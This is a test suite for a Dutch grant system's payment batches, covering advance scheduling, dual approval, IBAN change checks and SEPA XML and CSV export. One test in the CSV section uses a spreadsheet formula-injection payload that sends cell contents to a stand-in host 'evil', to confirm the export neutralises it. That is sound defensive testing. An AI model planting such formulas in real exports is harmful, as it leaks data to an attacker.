import { parse } from "csv-parse/sync";
import { XMLParser } from "fast-xml-parser";
import { afterEach, describe, expect, it } from "vitest";
import { prisma } from "../../db/client.server.ts";
import { errorOf } from "../../test/domain-error.ts";
import { advisePlan, announceDecision, completePlan, grantPlan } from "../../test/plan-steps.server.ts";
import { createScenario, type Scenario } from "../../test/scenario.server.ts";
import type { Actor } from "../actor.ts";
import { checkLedger } from "../budget/reports.server.ts";
import { setClock } from "../clock.ts";
import { revokeGrant } from "../decision/decide.server.ts";
import { formatEuro } from "../money.ts";
import { reportExecutionStart } from "../plan/execution.server.ts";
import { executionStartDeadline } from "../reminders/reminders.server.ts";
import {
  getRealisationReport,
  openRealisationReport,
  saveReportStep,
  submitRealisationReport,
} from "../settlement/report.server.ts";
import { addCalendarDays, amsterdamDate, amsterdamTimeOn } from "../time/index.ts";
import {
  ADVANCE_AFTER_SETTLEMENT_REQUEST,
  approveBatch,
  type BatchDetail,
  type BatchPayment,
  cancelBatch,
  duePayments,
  EXECUTION_DATE_MAX_DAYS_AHEAD,
  getBatch,
  listBatches,
  prepareBatch,
} from "./batches.server.ts";
import { batchCsv } from "./csv.server.ts";
import { decideIbanChange, requestIbanChange } from "./iban.server.ts";
import { checkIban, IBAN_OUTSIDE_EEA } from "./iban.ts";
import { batchSepaXml } from "./sepa.server.ts";

async function finance(s: Scenario): Promise<[Actor, Actor]> {
  return [await s.newUser("FINANCE"), await s.newUser("FINANCE")];
}

/** A granted plan of organisation A (2 × € 300.000 granted, advances requested), its decision made known. */
async function grantedPlan(s: Scenario, options: { announced?: boolean } = {}): Promise<string> {
  const { id, version } = await completePlan(s);
  const advised = await advisePlan(s, id, version);
  await grantPlan(s, id, advised);
  if (options.announced !== false) await announceDecision(id);
  return id;
}

const today = () => amsterdamDate(new Date());

afterEach(() => setClock(null));

describe("payments", () => {
  it("a grant schedules the advances of its letter: 10% today, the rest up to exactly 80% later", async () => {
    const s = await createScenario();
    const planId = await grantedPlan(s);
    const payments = await prisma.payment.findMany({ where: { planId }, orderBy: { sequence: "asc" } });
    const granted = 60_000_000n;
    expect(payments.length).toBeGreaterThan(1);
    expect(payments.map((p) => p.sequence)).toEqual(payments.map((_, i) => i + 1));
    expect(payments.every((p) => p.kind === "ADVANCE" && p.status === "PLANNED")).toBe(true);
    expect(payments[0]?.amountCents).toBe((granted * 1000n) / 10_000n);
    expect(payments.reduce((t, p) => t + p.amountCents, 0n)).toBe((granted * 8000n) / 10_000n);
    expect(amsterdamDate(payments[0]?.dueOn as Date)).toBe(today());
    const later = payments.slice(1).map((p) => p.dueOn.toISOString().slice(0, 10));
    expect([...later].sort()).toEqual(later);
    expect(later.every((d) => d > today())).toBe(true);
    // Plan period of validPlanDraft: 1 Jan next year … 31 Dec the year after; every six months.
    expect(later[0]).toBe(`${s.year + 1}-07-01`);
  });

  it("prepares, refuses the preparer's own approval, approves once under two concurrent approvals, exports", async () => {
    const s = await createScenario();
    const [preparer, approver] = await finance(s);
    const planId = await grantedPlan(s);
    const due = (await duePayments(prisma)).filter((p) => p.planId === planId);
    expect(due).toHaveLength(1);
    // Scenario organisations share the test IBAN: flagged.
    expect(due[0]?.sharedWith).toContain(s.orgB.name);

    // A date beyond what a bank schedules (a slip of the year) is refused: approval books it as paid.
    for (const days of [EXECUTION_DATE_MAX_DAYS_AHEAD + 1, 365 * 7973]) {
      const far = await errorOf(
        prepareBatch(preparer, {
          paymentIds: due.map((d) => d.id),
          executionDate: addCalendarDays(today(), days),
        }),
      );
      expect(far.message).toMatch(/De uitvoeringsdatum ligt te ver vooruit; kies een datum tot en met/);
    }
    const batch = await prepareBatch(preparer, {
      paymentIds: due.map((d) => d.id),
      executionDate: addCalendarDays(today(), EXECUTION_DATE_MAX_DAYS_AHEAD),
    });
    expect(batch.reference).toMatch(/^BB-\d{4}-\d{4}$/);
    const again = await errorOf(
      prepareBatch(preparer, { paymentIds: due.map((d) => d.id), executionDate: today() }),
    );
    expect(again.status).toBe(409);

    const own = await errorOf(approveBatch(preparer, batch.id));
    expect(own.status).toBe(403);
    expect(own.message).toMatch(/vier-ogen/);

    const results = await Promise.all([approveBatch(approver, batch.id), approveBatch(approver, batch.id)]);
    expect(results.filter((r) => !r.alreadyApproved)).toHaveLength(1);
    const entries = await prisma.ledgerEntry.findMany({ where: { planId, kind: "DISBURSEMENT" } });
    const amount = due[0]?.amountCents as bigint;
    // One entry on the window pot (whole amount) plus the year pots' shares.
    expect(entries.filter((e) => e.year === null).map((e) => e.amountCents)).toEqual([amount]);
    expect(entries.filter((e) => e.year !== null).reduce((t, e) => t + e.amountCents, 0n)).toBe(amount);
    const pots = (
      await prisma.budgetPot.findMany({ where: { entries: { some: { planId } } }, select: { id: true } })
    ).map((p) => p.id);
    expect(await checkLedger(prisma, { potIds: pots })).toEqual([]);

    const detail = await getBatch(prisma, batch.id);
    expect(detail.status).toBe("APPROVED");
    expect(detail.payments.every((p) => p.status === "PAID")).toBe(true);
    const audit = await prisma.auditLog.findMany({
      where: { targetType: "PaymentBatch", targetId: batch.id },
    });
    expect(audit.map((a) => a.action).sort()).toEqual(["payment_batch_approved", "payment_batch_prepared"]);

    const xml = new XMLParser({ parseTagValue: false }).parse(batchSepaXml(detail));
    const root = xml.Document.CstmrCdtTrfInitn;
    const txs = [root.PmtInf.CdtTrfTxInf].flat();
    expect(root.GrpHdr.NbOfTxs).toBe(String(detail.payments.length));
    expect(root.GrpHdr.CtrlSum).toBe(root.PmtInf.CtrlSum);
    const euros = (c: bigint) => `${c / 100n}.${(c % 100n).toString().padStart(2, "0")}`;
    expect(root.GrpHdr.CtrlSum).toBe(euros(detail.totalCents));
    expect(txs).toHaveLength(detail.payments.length);
    expect(txs[0].CdtrAcct.Id.IBAN).toBe(detail.payments[0]?.iban);
    expect(txs[0].Amt.InstdAmt["#text"] ?? txs[0].Amt.InstdAmt).toBe(euros(amount));
    expect(txs[0].PmtId.EndToEndId).toBe(detail.payments[0]?.reference);
    expect(txs[0].RmtInf.Ustrd).toMatch(/^Voorschot 1 sectorplan SP-/);

    const records = parse(batchCsv(detail), { columns: true, delimiter: ";" }) as Record<string, string>[];
    expect(records).toEqual(
      detail.payments.map((p) => ({
        kenmerk: p.planReference,
        betalingskenmerk: p.reference,
        organisatie: p.payeeName,
        iban: p.iban,
        bedrag: euros(p.amountCents).replace(".", ","),
        omschrijving: p.description,
        vervaldatum: p.dueOn,
      })),
    );
  });

  it("a pending IBAN change blocks payment; the change needs another finance user and is audited", async () => {
    const s = await createScenario();
    const [financeA, financeB] = await finance(s);
    const planId = await grantedPlan(s);
    expect(checkIban("NL91 ABNA 0417 1643 01").ok).toBe(false);
    // SEPA outside the EEA: a transfer there needs the BIC the bank file does not carry.
    expect(checkIban("CH93 0076 2011 6238 5295 7")).toEqual({ ok: false, message: IBAN_OUTSIDE_EEA });
    expect(checkIban("GB29 NWBK 6016 1331 9268 19")).toEqual({ ok: false, message: IBAN_OUTSIDE_EEA });
    expect(checkIban("DE89 3704 0044 0532 0130 00").ok).toBe(true);
    const bad = await errorOf(
      requestIbanChange(s.applicantA, {
        organisationId: s.orgA.id,
        iban: "NL91ABNA0417164301",
        accountHolder: "A",
      }),
    );
    expect(bad.message).toMatch(/klopt niet/);

    const { id } = await requestIbanChange(s.applicantA, {
      organisationId: s.orgA.id,
      iban: "nl20 ingb 0001 2345 67",
      accountHolder: s.orgA.name,
    });
    const due = (await duePayments(prisma)).filter((p) => p.planId === planId);
    expect(due[0]?.blocked).toMatch(/wijziging van het rekeningnummer/);
    const refused = await errorOf(
      prepareBatch(financeA, { paymentIds: due.map((d) => d.id), executionDate: today() }),
    );
    expect(refused.status).toBe(422);
    expect((await prisma.organisation.findUniqueOrThrow({ where: { id: s.orgA.id } })).iban).toBe(
      "NL91ABNA0417164300",
    );

    const { id: own } = await prisma.ibanChangeRequest.update({
      where: { id },
      data: { requestedById: financeA.userId },
    });
    expect((await errorOf(decideIbanChange(financeA, own, { approve: true }))).status).toBe(403);
    await decideIbanChange(financeB, id, { approve: true });
    expect((await prisma.organisation.findUniqueOrThrow({ where: { id: s.orgA.id } })).iban).toBe(
      "NL20INGB0001234567",
    );
    const audit = await prisma.auditLog.findMany({
      where: { targetType: "Organisation", targetId: s.orgA.id },
    });
    expect(audit.map((a) => a.action).sort()).toEqual(["iban_change_approved", "iban_change_requested"]);

    // Now payable; a cancelled batch gives its payments back.
    const batch = await prepareBatch(financeA, { paymentIds: due.map((d) => d.id), executionDate: today() });
    expect((await getBatch(prisma, batch.id)).payments[0]?.iban).toBe("NL20INGB0001234567");
    await cancelBatch(financeB, batch.id);
    expect((await prisma.payment.findUniqueOrThrow({ where: { id: due[0]?.id } })).status).toBe("PLANNED");

    // A payment cancelled meanwhile (the grant revoked) makes approval refuse: the batch is stale.
    const second = await prepareBatch(financeA, { paymentIds: due.map((d) => d.id), executionDate: today() });
    await prisma.payment.update({
      where: { id: due[0]?.id },
      data: { status: "CANCELLED", cancelledAt: new Date() },
    });
    const stale = await errorOf(approveBatch(financeB, second.id));
    expect(stale.code).toBe("STALE_BATCH");
    expect(await prisma.ledgerEntry.count({ where: { planId, kind: "DISBURSEMENT" } })).toBe(0);
  });
});

describe("approving a batch prepared before a change", () => {
  it("refuses a batch whose payee's account changed, or is being changed, since it was prepared", async () => {
    const s = await createScenario();
    const [preparer, approver] = await finance(s);
    const planId = await grantedPlan(s);
    const due = (await duePayments(prisma)).filter((p) => p.planId === planId);
    const batch = await prepareBatch(preparer, { paymentIds: due.map((d) => d.id), executionDate: today() });
    const { id } = await requestIbanChange(s.applicantA, {
      organisationId: s.orgA.id,
      iban: "NL20INGB0001234567",
      accountHolder: s.orgA.name,
    });
    const pending = await errorOf(approveBatch(approver, batch.id));
    expect(pending.code).toBe("STALE_BATCH_IBAN");
    await decideIbanChange(approver, id, { approve: true });
    const changed = await errorOf(approveBatch(approver, batch.id));
    expect(changed.code).toBe("STALE_BATCH_IBAN");
    expect(changed.message).toMatch(/rekeningnummer .* is gewijzigd/);
    expect(await prisma.ledgerEntry.count({ where: { planId, kind: "DISBURSEMENT" } })).toBe(0);
  });

  it("refuses a batch whose execution date has passed", async () => {
    const s = await createScenario();
    const [preparer, approver] = await finance(s);
    const planId = await grantedPlan(s);
    const due = (await duePayments(prisma)).filter((p) => p.planId === planId);
    const batch = await prepareBatch(preparer, { paymentIds: due.map((d) => d.id), executionDate: today() });
    // However many approved batches there are, a prepared one stays on the list (it waits for a
    // second person): here with room for no approved one at all.
    const listed = await listBatches(prisma, 0);
    expect(listed.batches.map((b) => b.id)).toContain(batch.id);
    expect(listed.approvedShown).toBe(0);
    setClock(new Date(Date.now() + 2 * 86_400_000));
    try {
      expect((await errorOf(approveBatch(approver, batch.id))).code).toBe("STALE_BATCH_DATE");
    } finally {
      setClock(null);
    }
  });
});

describe("advances the grant does not allow yet, or no longer", () => {
  it("holds an advance until the beschikking is made known (Awb 3:40)", async () => {
    const s = await createScenario();
    const [preparer, approver] = await finance(s);
    const planId = await grantedPlan(s, { announced: false });
    const due = (await duePayments(prisma)).filter((p) => p.planId === planId);
    // Shown to finance, with the reason, not left out.
    expect(due).toHaveLength(1);
    expect(due[0]?.blocked).toMatch(/beschikking is nog niet bekendgemaakt/);
    const refused = await errorOf(
      prepareBatch(preparer, { paymentIds: due.map((d) => d.id), executionDate: today() }),
    );
    expect(refused.status).toBe(422);
    expect(refused.message).toMatch(/3:40 Awb/);

    await announceDecision(planId);
    const payable = (await duePayments(prisma)).filter((p) => p.planId === planId);
    expect(payable[0]?.blocked).toBeNull();
    const batch = await prepareBatch(preparer, {
      paymentIds: payable.map((d) => d.id),
      executionDate: today(),
    });
    expect(await approveBatch(approver, batch.id)).toEqual({ alreadyApproved: false });
  });

  it("holds advances once the term to start lapsed without a reported start, also at approval", async () => {
    const s = await createScenario();
    const [preparer, approver] = await finance(s);
    const planId = await grantedPlan(s);
    const decision = await prisma.decision.findUniqueOrThrow({ where: { planId } });
    const lastDay = executionStartDeadline(decision.decidedAt, 6);
    const dayAfter = addCalendarDays(lastDay, 1);
    // Prepared on the last day to start, for the day after: still payable then.
    setClock(amsterdamTimeOn(lastDay, 10));
    const onTime = (await duePayments(prisma)).filter((p) => p.planId === planId);
    expect(onTime.length).toBeGreaterThan(0);
    expect(onTime.every((p) => p.blocked === null)).toBe(true);
    const ids = onTime.map((d) => d.id);
    const batch = await prepareBatch(preparer, { paymentIds: ids, executionDate: dayAfter });

    // The day after, no start reported: the grant is to be revoked and the advances recovered.
    setClock(amsterdamTimeOn(dayAfter, 10));
    const late = await errorOf(approveBatch(approver, batch.id));
    expect(late.code).toBe("STALE_BATCH_HELD");
    expect(late.message).toMatch(/artikel 5\.2/);
    expect(await prisma.ledgerEntry.count({ where: { planId, kind: "DISBURSEMENT" } })).toBe(0);
    await cancelBatch(approver, batch.id);
    const held = (await duePayments(prisma)).filter((p) => p.planId === planId);
    expect(held.map((p) => p.id).sort()).toEqual([...ids].sort());
    expect(held.every((p) => /start is niet gemeld/.test(p.blocked ?? ""))).toBe(true);
    const refused = await errorOf(prepareBatch(preparer, { paymentIds: ids, executionDate: dayAfter }));
    expect(refused.status).toBe(422);

    // A start on time, reported late: the advances are payable again.
    const { version } = await prisma.plan.findUniqueOrThrow({ where: { id: planId } });
    await reportExecutionStart(s.applicantA, planId, version, lastDay);
    const again = (await duePayments(prisma)).filter((p) => p.planId === planId);
    expect(again.every((p) => p.blocked === null)).toBe(true);
    const paid = await prepareBatch(preparer, { paymentIds: ids, executionDate: dayAfter });
    expect(await approveBatch(approver, paid.id)).toEqual({ alreadyApproved: false });
  });

  it("holds advances once the vaststelling is asked: what is due follows from it", async () => {
    const s = await createScenario();
    const planId = await grantedPlan(s);
    const version = async () => (await prisma.plan.findUniqueOrThrow({ where: { id: planId } })).version;
    await reportExecutionStart(s.applicantA, planId, await version(), today());
    const unpaid = (await duePayments(prisma)).filter((p) => p.planId === planId);
    expect(unpaid.length).toBeGreaterThan(0);
    expect(unpaid.every((p) => p.blocked === null)).toBe(true);
    // The period over, the report says nothing was done, and the vaststelling is asked.
    setClock(new Date(`${s.year + 3}-01-20T10:00:00Z`));
    // In the plan's order: the report's steps list the measures as the plan does (checkResults).
    const measures = await prisma.measure.findMany({ where: { planId }, orderBy: { position: "asc" } });
    const opened = await openRealisationReport(s.applicantA, planId);
    const results = await saveReportStep(s.applicantA, planId, opened.report?.version ?? 0, "results", {
      measures: measures.map((m) => ({ measureId: m.id, participants: "0" })),
      summary: "Er is niets uitgevoerd; de sector heeft geen kosten gemaakt.",
    });
    await saveReportStep(s.applicantA, planId, results.version, "costs", {
      costs: measures.flatMap((m) =>
        [s.year + 1, s.year + 2].map((y) => ({ measureId: m.id, year: String(y), amount: "0,00" })),
      ),
    });
    const { report } = await getRealisationReport(s.applicantA, planId);
    await submitRealisationReport(s.applicantA, planId, report?.version ?? 0, true);
    expect((await prisma.plan.findUniqueOrThrow({ where: { id: planId } })).status).toBe(
      "SETTLEMENT_REQUESTED",
    );
    // Every advance still unpaid is shown with the reason, and cannot be put in a batch.
    const held = (await duePayments(prisma)).filter((p) => p.planId === planId);
    expect(held.map((p) => p.id)).toEqual(expect.arrayContaining(unpaid.map((p) => p.id)));
    expect(held.every((p) => p.blocked === ADVANCE_AFTER_SETTLEMENT_REQUEST)).toBe(true);
    const [preparer] = await finance(s);
    const refused = await errorOf(
      prepareBatch(preparer, { paymentIds: held.map((p) => p.id), executionDate: amsterdamDate(new Date()) }),
    );
    expect(refused.status).toBe(422);
  });

  it("a revocation ends the hold: the held advances are cancelled", async () => {
    const s = await createScenario();
    const planId = await grantedPlan(s);
    const decision = await prisma.decision.findUniqueOrThrow({ where: { planId } });
    setClock(amsterdamTimeOn(addCalendarDays(executionStartDeadline(decision.decidedAt, 6), 1), 10));
    expect((await duePayments(prisma)).filter((p) => p.planId === planId).length).toBeGreaterThan(0);
    const { version } = await prisma.plan.findUniqueOrThrow({ where: { id: planId } });
    await revokeGrant(s.decisionMaker, planId, version, "De uitvoering is niet begonnen.");
    expect((await duePayments(prisma)).filter((p) => p.planId === planId)).toEqual([]);
  });
});

describe("a payee a SEPA file cannot name", () => {
  it("holds back the payment of an organisation whose name has no Latin letters", async () => {
    const s = await createScenario();
    const [preparer] = await finance(s);
    const planId = await grantedPlan(s);
    await prisma.organisation.update({ where: { id: s.orgA.id }, data: { name: "Ελληνική Ένωση" } });
    const due = (await duePayments(prisma)).filter((p) => p.planId === planId);
    expect(due[0]?.blocked).toMatch(/SEPA-betaling/);
    const refused = await errorOf(
      prepareBatch(preparer, { paymentIds: due.map((d) => d.id), executionDate: today() }),
    );
    expect(refused.status).toBe(422);
  });
});

describe("an amount a SEPA transfer cannot carry", () => {
  it("holds a payment above € 999.999.999,99 before preparation, not in the file writer after approval", async () => {
    const s = await createScenario();
    const [preparer] = await finance(s);
    const planId = await grantedPlan(s);
    const [first] = (await duePayments(prisma)).filter((p) => p.planId === planId);
    await prisma.payment.update({ where: { id: first?.id }, data: { amountCents: 1_000_000_000_00n } });
    const due = (await duePayments(prisma)).filter((p) => p.planId === planId);
    expect(due[0]?.blocked).toBe(
      `Het bedrag van ${formatEuro(1_000_000_000_00n)} is hoger dan één SEPA-overboeking kan dragen ` +
        `(ten hoogste ${formatEuro(999_999_999_99n)}); deze betaling kan niet via een betaalbatch worden betaald.`,
    );
    const refused = await errorOf(
      prepareBatch(preparer, { paymentIds: due.map((d) => d.id), executionDate: today() }),
    );
    expect(refused.status).toBe(422);
    expect(refused.message).toContain(`${due[0]?.planReference} (${s.orgA.name}): Het bedrag van`);
    expect(await prisma.payment.findUnique({ where: { id: first?.id } })).toMatchObject({
      status: "PLANNED",
    });

    // The maximum itself is payable.
    await prisma.payment.update({ where: { id: first?.id }, data: { amountCents: 999_999_999_99n } });
    expect((await duePayments(prisma)).find((p) => p.id === first?.id)?.blocked).toBeNull();
  });
});

describe("the batch CSV", () => {
  const payment = (over: Partial<BatchPayment>): BatchPayment => ({
    id: "p",
    reference: "SP-2025-0001-V1",
    planId: "plan",
    planReference: "SP-2025-0001",
    kind: "ADVANCE",
    sequence: 1,
    description: "Voorschot 1 sectorplan SP-2025-0001",
    dueOn: "2025-03-01",
    amountCents: 30_000_000n,
    status: "IN_BATCH",
    iban: "NL91ABNA0417164300",
    payeeName: "Stichting Opleiding",
    ...over,
  });
  const batch = (payments: BatchPayment[]): BatchDetail => ({
    id: "b",
    reference: "B-2025-0001",
    status: "PREPARED",
    executionDate: "2025-03-01",
    totalCents: payments.reduce((sum, p) => sum + p.amountCents, 0n),
    count: payments.length,
    preparedById: "u",
    preparedBy: "Financiën",
    preparedAt: new Date(0),
    approvedBy: null,
    approvedAt: null,
    payments,
  });

  it("defuses a formula in the organisation name and keeps a negative amount a number", () => {
    const hostile = '=HYPERLINK("https://evil/?"&A1,"x")';
    const csv = batchCsv(
      batch([payment({ payeeName: hostile }), payment({ payeeName: "@SUM(1+1)", amountCents: -10_000n })]),
    );
    const records = parse(csv, { columns: true, delimiter: ";" }) as Record<string, string>[];
    expect(records.map((r) => r.organisatie)).toEqual([`'${hostile}`, "'@SUM(1+1)"]);
    expect(records.map((r) => r.bedrag)).toEqual(["300000,00", "-100,00"]);
    expect(records[0]?.iban).toBe("NL91ABNA0417164300");
  });
});
